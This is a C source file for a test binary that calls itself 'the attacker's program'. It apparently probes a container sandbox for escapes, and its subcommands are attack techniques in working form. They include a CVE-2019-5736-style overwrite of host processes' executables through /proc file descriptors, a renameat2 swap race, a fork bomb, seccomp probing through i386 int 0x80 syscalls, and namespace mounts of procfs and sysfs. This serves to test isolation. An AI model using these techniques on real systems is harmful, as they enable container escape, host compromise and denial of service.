/* The attacker's program, static, as /bin/payload in the image and as a racer on the host:
 *   payload cwd              where am I, what fds do I have
 *   payload thief            take /proc/PID/exe, fds and memory of whoever comes into this pid namespace, until /stop is there
 *   payload swap A B [US]    exchange two names for ever (renameat2), with a pause of so many microseconds
 *   payload seccomp          what some system calls give
 *   payload profile          what the default profile should answer: each family of sockets and calls that escapes are made of
 *   payload bomb             fork without end; those that cannot fork try again
 *   payload peak BYTES CMD   run a command with this much address space (0: any); its code, and its most memory in KiB
 *   payload reveal DIR       mount a procfs and a sysfs of its own on the directory, in a user namespace
 *   payload unmark           take the marks off its own cgroup, then sleep
 *   payload groups           whether dropping the primary group is undone by the supplementary ones */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <sys/xattr.h>
#include <unistd.h>

static int cwd(void)
{
	char path[PATH_MAX] = "", fd[64], target[PATH_MAX];
	long r = syscall(SYS_getcwd, path, sizeof(path));
	printf("cwd %s\n", r < 0 ? strerror(errno) : path);
	for (int i = 0; i < 64; i++) {
		snprintf(fd, sizeof(fd), "/proc/self/fd/%d", i);
		ssize_t n = readlink(fd, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		printf("fd %d %s\n", i, target);
	}
	puts("done");
	return 0;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* What can be got of a process that is none of the image's: its program, its fds, its memory. */
static void rob(int pid, ino_t own)
{
	char path[64], target[PATH_MAX];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int exe = open(path, O_RDONLY | O_CLOEXEC);
	if (exe < 0)
		return;
	if (fstat(exe, &st) < 0 || st.st_ino == own) {
		close(exe);
		return;
	}
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (n > 0) {
		target[n] = '\0';
		if (strncmp(target, "/bin/", 5)) {
			printf("exe of %d: %s\n", pid, target);
			snprintf(path, sizeof(path), "/proc/%d/fd", pid);
			DIR *d = opendir(path);
			if (d) {
				printf("fds of %d are open to us\n", pid);
				closedir(d);
			}
			/* Opened for writing once nobody executes it any more: through our own fd, as CVE-2019-5736 did. */
			snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
			for (double end = now() + 1; now() < end; usleep(1000)) {
				int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
				if (w >= 0) {
					printf("%s\n", write(w, "overwritten", 11) == 11 ? "WROTE its program" : "no");
					close(w);
					break;
				}
				if (errno != ETXTBSY)
					break;
			}
			fflush(stdout);
		}
	}
	close(exe);
}

static int thief(void)
{
	struct stat own;
	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	puts("watching");
	fflush(stdout);
	while (access("/stop", F_OK) < 0) {
		int last = getpid();
		FILE *f = fopen("/proc/loadavg", "r"); /* its last field is the last pid given in this namespace */
		if (f) {
			if (fscanf(f, "%*s %*s %*s %*s %d", &last) != 1)
				last = getpid();
			fclose(f);
		}
		for (int pid = last; pid > last - 3 && pid > 1; pid--)
			if (pid != getpid())
				rob(pid, own.st_ino);
	}
	puts("done");
	return 0;
}

static int swap(const char *a, const char *b, useconds_t pause)
{
	long n = 0;
	puts("swapping");
	fflush(stdout);
	for (;; n++) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != EBUSY && errno != ENOENT)
			return 1;
		if (pause)
			usleep(pause);
	}
}

static void call(const char *name, long n, long a, long b)
{
	errno = 0;
	long r = syscall(n, a, b, 0, 0);
	printf("%s %s\n", name, r < 0 && errno == EXDEV ? "denied" : "allowed");
}

static int seccomp(void)
{
	call("both", SYS_socket, 12345, 7);
	call("first", SYS_socket, 12345, 8);
	call("second", SYS_socket, 12346, 7);
	call("high", SYS_lseek, -1, 5L << 32 | 1);
	call("low", SYS_lseek, -1, 1);
	puts("done");
	return 0;
}

static void answer(const char *name, long result)
{
	printf("%s %d\n", name, result < 0 ? errno : 0);
}

#if defined(__x86_64__)
/* A call of i386, as any 64-bit program can make it. */
static long call32(long number, long a, long b, long c)
{
	long result = number;
	__asm__ volatile("int $0x80" : "+a"(result) : "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	if ((int)result < 0) {
		errno = -(int)result;
		return -1;
	}
	return result;
}
#endif

static int profile(void)
{
	char name[64];
	for (int family = 0; family < 50; family++) {
		snprintf(name, sizeof(name), "family-%d", family);
		answer(name, syscall(SYS_socket, family, family == 38 ? 5 : 1 + (family == 16 || family == 17) * 2, 0));
	}
	answer("io_uring_setup", syscall(425, 1, 0));
	answer("io_uring_enter", syscall(426, -1, 0, 0, 0, 0, 0));
	answer("io_uring_register", syscall(427, -1, 0, 0, 0));
	answer("add_key", syscall(SYS_add_key, "user", "name", "x", 1L, -3));
	answer("request_key", syscall(SYS_request_key, "user", "name", 0, 0));
	answer("keyctl", syscall(SYS_keyctl, 0, -3, 1));
	answer("userfaultfd", syscall(SYS_userfaultfd, 1));
	answer("perf_event_open", syscall(SYS_perf_event_open, 0, 0, -1, -1, 0));
	answer("bpf", syscall(SYS_bpf, 0, 0, 0));
	answer("unshare", syscall(SYS_unshare, 0x10000000));
	answer("setns", syscall(SYS_setns, -1, 0));
	answer("mount", syscall(SYS_mount, 0, 0, 0, 0, 0));
	answer("fsopen", syscall(430, 0, 0));
	answer("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, 0, 0));
	answer("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
	answer("init_module", syscall(SYS_init_module, 0, 0, ""));
	answer("pidfd_getfd", syscall(438, -1, 0, 0));
	answer("clone3", syscall(435, 0, 0));
#if defined(__x86_64__)
	int *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	for (int i = 0; i < 3; i++) {
		int family = (int[]){ 2, 38, 40 }[i];
		args[0] = family;
		args[1] = family == 38 ? 5 : 1;
		args[2] = 0;
		snprintf(name, sizeof(name), "i386-socket-%d", family);
		answer(name, call32(359, family, args[1], 0));
		snprintf(name, sizeof(name), "i386-socketcall-%d", family);
		answer(name, call32(102, 1, (long)args, 0));
	}
	args[0] = 1;
	args[3] = (int)(long)(args + 8);
	args[1] = 1;
	args[2] = 0;
	answer("i386-socketcall-pair", call32(102, 8, (long)args, 0));
	answer("i386-keyctl", call32(288, 0, -3, 1));
	answer("i386-io_uring_setup", call32(425, 1, 0, 0));
	answer("i386-unshare", call32(310, 0x10000000, 0, 0));
#endif
	puts("done");
	return 0;
}

static int groups(const char *path)
{
	gid_t list[64];
	int n = getgroups(64, list);
	printf("groups");
	for (int i = 0; i < n; i++)
		printf(" %u", list[i]);
	printf("\ngid %u\nuid %u\n", getegid(), geteuid());
	printf("file %s\ndone\n", path && open(path, O_RDONLY) >= 0 ? "readable" : "closed");
	return 0;
}

/* From a process that has hardly any memory itself: wait4(2) counts what a child had before it executed. */
static int peak(rlim_t most, char **command)
{
	struct rlimit limit = { most, most };
	struct rusage used;
	int status;
	pid_t pid = fork();
	if (pid == 0) {
		if (most)
			setrlimit(RLIMIT_AS, &limit);
		execvp(command[0], command);
		_exit(127);
	}
	if (pid < 0 || wait4(pid, &status, 0, &used) < 0)
		return 1;
	fprintf(stderr, "\npeak %d %ld\n", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status), used.ru_maxrss);
	return 0;
}

static void write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		printf("%s: %s\n", path, strerror(errno));
	close(fd);
}

static int reveal(const char *place)
{
	static const char *const kinds[] = { "proc", "sysfs" };
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) < 0) {
		printf("unshare: %s\n", strerror(errno));
		return 1;
	}
	write_to("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	write_to("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	write_to("/proc/self/gid_map", map);
	fflush(stdout);
	pid_t pid = fork();
	if (pid > 0)
		return waitpid(pid, NULL, 0) < 0;
	for (int i = 0; i < 2; i++)
		printf("%s %s\n", kinds[i], mount(kinds[i], place, kinds[i], 0, NULL) < 0 ? strerror(errno) : "MOUNTED");
	puts("done");
	return 0;
}

static void unmark(void)
{
	static const char *const names[] = { "trusted.stele", "user.stele" };
	for (int i = 0; i < 2; i++)
		printf("%s %s\n", names[i], removexattr("/sys/fs/cgroup", names[i]) < 0 ? strerror(errno) : "removed");
	puts("done");
	fflush(stdout);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "cwd"))
		return cwd();
	if (!strcmp(what, "thief"))
		return thief();
	if (!strcmp(what, "swap") && argc > 3)
		return swap(argv[2], argv[3], argc > 4 ? atoi(argv[4]) : 0);
	if (!strcmp(what, "seccomp"))
		return seccomp();
	if (!strcmp(what, "profile"))
		return profile();
	if (!strcmp(what, "bomb"))
		for (;;)
			fork();
	if (!strcmp(what, "peak") && argc > 3)
		return peak(strtoul(argv[2], NULL, 10), argv + 3);
	if (!strcmp(what, "reveal") && argc > 2)
		return reveal(argv[2]);
	if (!strcmp(what, "unmark"))
		unmark();
	if (!strcmp(what, "groups"))
		return groups(argc > 2 ? argv[2] : NULL);
	return 2;
}
